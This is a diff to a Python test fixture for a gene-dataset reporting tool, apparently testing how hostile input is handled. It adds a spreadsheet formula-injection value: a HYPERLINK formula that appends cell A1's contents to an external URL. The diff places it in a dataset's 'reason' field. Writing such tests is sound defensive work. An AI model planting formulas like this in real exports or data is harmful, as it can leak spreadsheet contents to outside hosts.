@@ -27,6 +27,8 @@ FILTERED_IN_A = ["SIM00110", "SIM00111"]
 """Genes that both cohorts measured and the first one did not test."""
 NOWHERE = ["SIM00120"]
 """A gene that no cohort tested, only the cells."""
+FORMULA = '=HYPERLINK("https://example.org/?x="&A1,"open")'
+"""Free text that a spreadsheet would run."""
 CONTEXT = {
     "title": f"What the literature says {HOSTILE_TITLE}",
     "statements": [
@@ -40,7 +42,7 @@ CONSIDERED = [
     {"name": "GSE999991", "what": "blood of other patients", "would_serve": "disease", "decision": "later",
      "reason": "Its labels are not known.", "marks": ["code", "remembered"], "doi": ""},
     {"name": HOSTILE_TITLE, "what": HOSTILE_TITLE, "would_serve": "inhibitor", "decision": "out",
-     "reason": HOSTILE_TITLE, "marks": ["unknown"], "doi": "10.9999/other"},
+     "reason": FORMULA, "marks": ["unknown"], "doi": "10.9999/other"},
 ]  # fmt: skip
 
 
